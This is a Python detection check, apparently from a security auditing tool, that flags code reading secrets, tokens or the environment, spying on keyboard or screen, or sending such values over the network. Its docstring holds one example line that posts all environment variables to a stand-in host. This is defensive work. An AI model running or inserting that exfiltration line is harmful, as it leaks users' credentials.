"""Code that reads secrets or sends them away

## What it does
Reports reads of key files, tokens, browser data and the whole environment, listening to keyboard or screen, and follows
such values into network calls. A token of the Hub that is sent to the Hub is what it is for and is left alone.

## Why it matters
One token is enough to replace every model of its owner. Stealing environment variables is the commonest thing that
malicious packages do.

## Example
`requests.post("https://host.example", json=dict(os.environ))`

## How to fix
Do not run this code where secrets are. If it ran, revoke the tokens of that machine.

## References
- https://attack.mitre.org/tactics/TA0006/
- https://huggingface.co/docs/hub/security-tokens
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator

from trustaudit.checks._code import IMPORT, CodeFact, code_facts, code_finding
from trustaudit.checks._observed import Weight
from trustaudit.checks._text import bounded
from trustaudit.checks.interface import CheckMeta, Context, Need
from trustaudit.finding import Category, Confidence, Finding, Severity
from trustaudit.snapshot import Snapshot

META = CheckMeta(
    id="code-credential-access",
    title="Code that reads secrets or sends them away",
    severity=Severity.CRITICAL,
    category=Category.EXECUTION,
    needs=frozenset({Need.CONTENTS}),
    local=True,
)

_SENT = {
    "credential-send": ("sends secrets to the network", Weight(Severity.CRITICAL)),
    "secret-send": ("sends a secret from the environment to the network", Weight(Severity.MEDIUM, Confidence.MEDIUM)),
    "secret-lookup": ("puts a secret into a name that it has looked up", Weight(Severity.CRITICAL)),
    "host-send": ("sends the name of the machine or its user to the network", Weight(Severity.HIGH, Confidence.MEDIUM)),
}
_HOME_HOSTS = frozenset({"hub", "local"})
_CATCH_ALL = frozenset({"drop", "ip"})
_GET_TOKEN = "get_token"  # noqa: S105 - the name of a function
_FILES = Weight(Severity.HIGH, Confidence.MEDIUM)
_SPYING = Weight(Severity.HIGH, Confidence.MEDIUM)
_WATCHING = Weight(Severity.MEDIUM, Confidence.MEDIUM)


def run(snapshot: Snapshot, _context: Context) -> Iterable[Finding]:
    """One finding per read or flow, bounded in number."""
    return bounded(META, _findings(snapshot))


def _findings(snapshot: Snapshot) -> Iterator[Finding]:
    for fact in code_facts(snapshot, "flow", "credential", "spy", "process"):
        judged = _judged(fact)
        if judged is not None:
            message, weight = judged
            severity = fact.weighed(weight.severity, loose=1, hosted=Severity.MEDIUM)
            yield code_finding(META, fact, message, severity, weight.confidence)


def _judged(fact: CodeFact) -> tuple[str, Weight] | None:
    if "send-secrets" in fact.note.get("traits").split():
        return "starts a command that sends secrets away", Weight(Severity.CRITICAL)
    if fact.note.kind == "python-flow":
        return _sent(fact)
    if fact.note.kind == "python-spy":
        return "listens to keyboard, clipboard or screen", _SPYING if fact.phase == IMPORT else _WATCHING
    if fact.note.kind == "python-credential" and not fact.what.endswith(_GET_TOKEN):
        return "reads a place where secrets are kept", _FILES
    return None


def _sent(fact: CodeFact) -> tuple[str, Weight] | None:
    if fact.what not in _SENT:
        return None
    message, weight = _SENT[fact.what]
    if fact.urls and fact.hosts and fact.hosts <= _HOME_HOSTS | {"installer"}:
        return None
    if fact.hosts & _CATCH_ALL:
        return message, Weight(Severity.CRITICAL)
    origins = set(fact.note.get("origin").split())
    if fact.what == "credential-send" and not fact.urls and "environment" not in origins and "file" not in origins:
        # The Hub's token for an address that the code does not show: most often the Hub's own.
        return message, Weight(Severity.MEDIUM, Confidence.LOW)
    return message, weight
